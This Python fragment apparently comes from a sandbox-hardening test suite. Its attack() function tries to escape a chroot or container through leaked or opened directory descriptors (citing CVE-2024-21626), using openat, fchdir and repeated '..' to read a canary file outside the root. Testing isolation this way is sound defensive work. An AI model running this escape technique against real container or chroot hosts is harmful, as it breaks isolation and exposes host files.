"""Reach the host's files from a descriptor that came along.

Technique: a directory of the host that was left open is a way around every root (CVE-2024-21626, and the classic way
    out of a chroot: fchdir, then `..`). Looks for descriptors beyond the standard streams and the pipe for displays, and walks up from each of
    those it has or can open, by openat, fchdir and AT_EMPTY_PATH.
Success: a descriptor is open that the program did not open, or a file outside is read through one.
Stopped by: descriptors, root_filesystem, mount_namespace
"""


def attack():
    for descriptor in (number for number in range(3, 4096) if number != DISPLAYS):
        try:
            os.fstat(descriptor)
            return f"descriptor {descriptor} is {os.readlink(f'/proc/self/fd/{descriptor}')}"
        except OSError:
            pass
    held = [0, 1, 2, DISPLAYS]
    for directory in ("/", "/env", "/usr", "/proc", "/dev", "/work", "/proc/1", "/proc/self/fd", "/proc/self/ns"):
        for flags in (os.O_RDONLY, os.O_PATH):
            try:
                held.append(os.open(directory, flags | os.O_DIRECTORY))
            except OSError:
                pass
    for descriptor in held:
        for path in (canary["file"].lstrip("/"), "../" * 30 + canary["file"].lstrip("/")):
            try:
                return os.read(os.open(path, os.O_RDONLY, dir_fd=descriptor), 100).decode()
            except OSError:
                pass
        try:
            os.fchdir(descriptor)
            for _ in range(30):
                os.chdir("..")
            with open(canary["file"].lstrip("/")) as found:
                return found.read(100)
        except OSError:
            pass


def twin():
    """Files relative to a directory's descriptor: how careful programs walk trees."""
    os.makedirs("a/b")
    with open("a/b/file", "w") as own:
        own.write("mine")
    directory = os.open("a/b", os.O_PATH)
    assert os.read(os.open("file", os.O_RDONLY, dir_fd=directory), 9) == b"mine"
    assert os.stat("..", dir_fd=directory).st_ino == os.stat("a").st_ino
    assert [files for *_, files, _ in os.fwalk("a")] == [[], ["file"]]
